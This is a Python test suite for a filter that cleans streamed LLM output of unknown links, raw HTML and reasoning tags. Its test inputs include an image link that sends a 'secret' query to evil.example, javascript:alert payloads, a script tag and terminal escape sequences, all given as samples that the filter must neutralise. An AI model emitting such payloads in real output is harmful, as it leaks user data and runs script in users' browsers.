"""Filters of streamed LLM output."""

import re
from collections.abc import Iterator

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from services.responder.links import MAX_LABEL_LENGTH, MAX_TARGET_LENGTH, AllowedLinks, strip_punctuation
from services.responder.markdown import escape_markdown
from services.responder.output_filter import (
    MAX_WORD_LENGTH,
    REMOVED_LINK,
    UNKNOWN_FILE,
    OutputFilter,
    ReasoningFilter,
)
from services.responder.run_summary import Artifact

SPEECH = Artifact("speech.wav", "audio/wav", 120_345)
SIGN = Artifact("my sign [1].png", "image/png", 9)
KNOWN = AllowedLinks(
    {"task2.audio": SPEECH, "file1": SIGN},
    "The page says: see https://known.example/a?b=1. It names notes.txt and WWW.Known.example, too.",
)

CASES = [
    ("Listen: [speech.wav](artifact:task2.audio).", "Listen: speech.wav."),
    ("[Listen here](artifact:task2.audio)!", "Listen here (speech.wav)!"),
    ("![the sign](artifact:file1)", "the sign (my sign \\[1].png)"),
    ("[](artifact:task2.audio)", "speech.wav"),
    ("It is in artifact:task2.audio.", "It is in speech.wav."),
    ("an artifact: a thing", "an artifact: a thing"),
    ("[a](speech.wav) [b](</out/speech.wav>)", "a (speech.wav) b (speech.wav)"),
    ("[a](sandbox:/x/speech.wav)", "a (speech.wav)"),
    ('[a](artifact:task2.audio "title")', "a (speech.wav)"),
    ("[report](artifact:task9.text)", f"report {UNKNOWN_FILE}"),
    ("see artifact:task9.text", f"see {UNKNOWN_FILE}"),
    ("[report.pdf](report.pdf)", f"report.pdf {UNKNOWN_FILE}"),
    ("I saved it as out.png.", f"I saved it as out.png {UNKNOWN_FILE}."),
    ("It is at /mnt/data/result, really", f"It is at /mnt/data/result {UNKNOWN_FILE}, really"),
    ("speech.wav and notes.txt", "speech.wav and notes.txt"),
    ("It costs 3.14 e.g. and/or km/h... ok", "It costs 3.14 e.g. and/or km/h... ok"),
    ("See https://known.example/a?b=1.", "See https://known.example/a?b=1."),
    ("[this](https://known.example/a?b=1)", "this (https://known.example/a?b=1)"),
    ("[https://known.example/a?b=1](https://known.example/a?b=1)", "https://known.example/a?b=1"),
    ("(https://known.example/a?b=1)", "(https://known.example/a?b=1)"),
    ("See https://known.example/a?b=2, now", f"See {REMOVED_LINK}, now"),
    ("See HTTP://evil.example/x", f"See {REMOVED_LINK}"),
    ("**www.evil.example**", f"**{REMOVED_LINK}**"),
    ("www.known.example/x mailto:a@b.example", f"{REMOVED_LINK} {REMOVED_LINK}"),
    ("xhttp://evil.example.http://evil.example", f"x{REMOVED_LINK}"),
    ("![x](https://evil.example/?q=secret)", f"x {REMOVED_LINK}"),
    ("[x](javascript:alert(1))", f"x {REMOVED_LINK}"),
    ("[x](//evil.example)", f"x {REMOVED_LINK}"),
    ("[![a](artifact:task2.audio)](https://evil.example)", f"a (speech.wav) {REMOVED_LINK}"),
    ("[a [b](artifact:task2.audio)](artifact:file1)", "a b (speech.wav) (my sign \\[1].png)"),
    ("[x]: https://evil.example", f"[x]\\: {REMOVED_LINK}"),
    ("[x][y] and [1, 2] and a[0]", "[x]\\[y] and [1, 2] and a[0]"),
    ("[x](a b) [x]( and", "[x]\\(a b) [x]\\( and"),
    ("[`]`](javascript:alert(1)) b](/x)", "[`]`]\\(javascript:alert(1)) b]\\(/x)"),
    ("\\[x\\](artifact:task2.audio)", "\\[x\\](speech.wav)"),
    ("\\\\[x](javascript:a)", f"\\\\ x {REMOVED_LINK}"),
    ("<b>x</b> <!-- --> <https://evil.example> \\<i>", f"\\<b>x\\</b> \\<!-- --> \\< {REMOVED_LINK}> \\<i>"),
    ("\\\\<script>", "\\\\\\<script>"),
    ("<[speech.wav](artifact:task2.audio)>", "< speech.wav>"),
    ("1 < 2, a <3", "1 < 2, a <3"),
    ("\x1b]8;;x\x07 a\u202eb", "]8;;x ab"),
    ("http://例え.jp starts with http:// always", f"{REMOVED_LINK}例え.jp starts with http:// always"),
    ("见https://known.example/a?b=1。好的", "见https://known.example/a?b=1。好的"),
    ("[" + "x" * MAX_LABEL_LENGTH + "](javascript:x)", "[" + "x" * MAX_LABEL_LENGTH + "]\\(javascript:x)"),
    ("http://evil.example/" + "x" * MAX_TARGET_LENGTH + " y", None),
    ("a." + "x" * MAX_WORD_LENGTH + "http://evil.example y", "a." + "x" * MAX_WORD_LENGTH + REMOVED_LINK + " y"),
    ("[a\n\nb](javascript:x)", "[a\n\nb]\\(javascript:x)"),
    ("run ssh://me@evil.example/x now", f"run ssh: {REMOVED_LINK} now"),
    ("javascript://evil%0aalert(1)", f"javascript: {REMOVED_LINK}(1)"),
    ("it is a ratio of 3://4 // not a comment: //", "it is a ratio of 3://4 // not a comment: //"),
    ("the WWW is www, WWW: www。or www", "the WWW is www, WWW: www。or www"),
]  # fmt: skip


def filtered(*pieces: str, allowed: AllowedLinks = KNOWN) -> str:
    stream = OutputFilter(allowed)
    return "".join([stream.add(piece) for piece in pieces]) + stream.end()


@pytest.mark.parametrize(("markdown", "shown"), [case for case in CASES if case[1] is not None])
def test_links_and_files_unknown_to_run_become_text(markdown: str, shown: str) -> None:
    assert filtered(markdown) == shown


@pytest.mark.parametrize("markdown", [case[0] for case in CASES])
def test_result_does_not_depend_on_chunks(markdown: str) -> None:
    expected = filtered(markdown)
    for split in range(len(markdown) + 1):
        assert filtered(markdown[:split], markdown[split:]) == expected
    assert filtered(*markdown) == expected


PIECES = st.sampled_from(
    ["[", "]", "(", ")", "![", "](", "]:", "][", "<", ">", "\\", "`", " ", "\n", ".", "/", ":", '"', "a", "script",
     "htt", "ps://", "http://", "evil.example", "known.example/a?b=1", "https://known.example/a?b=1", "www.", "www",
     "artifact:", "task2.audio", "task9.x", "out.png", "speech.wav", "javascript:x", "é", "。", "\x1b", "//"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=40))
@example(["]", "https://known.example/a?b=1"])
def test_arbitrary_output_contains_no_active_markup(pieces: list[str]) -> None:
    shown = filtered(*pieces)
    assert shown == filtered("".join(pieces))
    assert not re.search(r"(?<!\\)(?:\\\\)*\][(:\[]", shown)
    assert not re.search(r"(?<!\\)(?:\\\\)*<[A-Za-z/!?]", shown)
    for found in re.findall(r"(?:https?://|www\.)[a-z][^\s<>\"`\\\[\]。]*", shown):
        assert KNOWN.has_address(strip_punctuation(found)) or "(" in found or ")" in found


def tokens(markdown: str) -> Iterator[Token]:
    for token in MarkdownIt("commonmark").parse(markdown):
        yield from (token, *(token.children or ()))


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        PIECES | st.sampled_from(["```\n", "    ", "- ", "> ", "\n\n", "[a]: /x\n", "&lt;", "*", "_"]), max_size=30
    )
)
def test_markdown_parser_finds_no_link_image_or_html(pieces: list[str]) -> None:
    live = {"link_open", "image", "html_inline", "html_block"}
    for shown in (filtered(*pieces), escape_markdown("".join(pieces))):
        assert not live & {token.type for token in tokens(shown)}


def test_plain_text_is_emitted_at_once() -> None:
    stream = OutputFilter(KNOWN)
    assert [stream.add(piece) for piece in ("Hel", "lo, the s", "ign [say", "s] “Exit”", " h")] == [
        "Hel", "lo, the s", "ign ", "[says] “Exit”", " ",
    ]  # fmt: skip


def test_unclosed_bracket_holds_back_limited_text() -> None:
    stream = OutputFilter(KNOWN)
    shown = stream.add("[" + "x " * MAX_LABEL_LENGTH)
    assert shown.startswith("[x x")


def test_file_names_are_not_marked_in_conversation() -> None:
    talk = AllowedLinks({}, about_files=False)
    assert filtered("Write config.json into /etc/x/y.", allowed=talk) == "Write config.json into /etc/x/y."
    assert filtered("[docs](docs.html)", allowed=talk) == f"docs {REMOVED_LINK}"


def test_long_hostile_text_is_filtered_fast() -> None:
    for hostile in ("[" * 20_000, "![" * 10_000, "a." * 10_000, "](" * 10_000, "http" * 5_000, "\\" * 20_000):
        assert filtered(*re.findall(".{1,50}", hostile, re.DOTALL))


@pytest.mark.parametrize(
    ("text", "answer"),
    [
        ("<think>It says Exit.</think>\n\nExit.", "Exit."),
        ("\n<think>\n</think>Exit <think>.", "Exit <think>."),
        ("<think>It says", ""),
        ("<thin", "<thin"),
        ("<b>Exit", "<b>Exit"),
        ("Exit.", "Exit."),
        ("", ""),
    ],
)
def test_reasoning_is_removed_from_answer(text: str, answer: str) -> None:
    for split in range(len(text) + 1):
        reasoning_filter = ReasoningFilter()
        filtered = reasoning_filter.add(text[:split]) + reasoning_filter.add(text[split:]) + reasoning_filter.end()
        assert filtered.rstrip() == answer
